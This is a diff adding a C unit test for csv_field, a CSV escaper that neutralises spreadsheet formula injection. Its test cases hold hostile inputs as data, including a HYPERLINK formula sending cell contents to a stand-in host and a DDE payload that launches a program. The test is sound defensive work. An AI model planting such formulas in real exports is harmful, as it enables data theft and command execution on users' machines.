@@ -2,6 +2,7 @@
  * and validation, UTF-8, password and token rules, the route table and
  * matcher, arenas and strbufs. */
 #include "auth.h"
+#include "csv.h"
 #include "form.h"
 #include "handlers.h"
 #include "router.h"
@@ -983,6 +984,35 @@ static void test_misc(void)
 	CHECK(now > 1700000000 && now - (int64_t)time(NULL) <= 1, "now_unix is the current time");
 }
 
+/* ---- csv_field ------------------------------------------------------------- */
+
+static void test_csv(void)
+{
+	static const struct { const char *in, *out; } cases[] = {
+		{"Jansen", "Jansen"},
+		{"", ""},
+		{"a;b", "\"a;b\""},
+		{"zeg \"hoi\"", "\"zeg \"\"hoi\"\"\""},
+		/* The held strings: each would start a formula in Excel. */
+		{"=HYPERLINK(\"http://x.example/?\"&A1,\"Klik\")",
+		 "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Klik\"\")\""},
+		{"=1+1", "'=1+1"},
+		{"+31 6 12345678", "'+31 6 12345678"},
+		{"-2+3", "'-2+3"},
+		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
+		{"\t=1+1", "'\t=1+1"},
+		{"\r=1+1", "\"'\r=1+1\""},
+		{"=cmd|' /C calc'!A0;x", "\"'=cmd|' /C calc'!A0;x\""},
+		{"Straat =1", "Straat =1"},
+	};
+	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
+		strbuf sb = {0};
+		csv_field(&sb, cases[i].in);
+		CHECK_STR(sb_str(&sb), cases[i].out, "csv_field case %zu", i);
+		sb_free(&sb);
+	}
+}
+
 int main(void)
 {
 	if (sodium_init() < 0) {
@@ -990,6 +1020,7 @@ int main(void)
 		T_EXIT();
 	}
 	test_form_parse();
+	test_csv();
 	test_form_validate();
 	test_lengths();
 	test_form_validate_json();
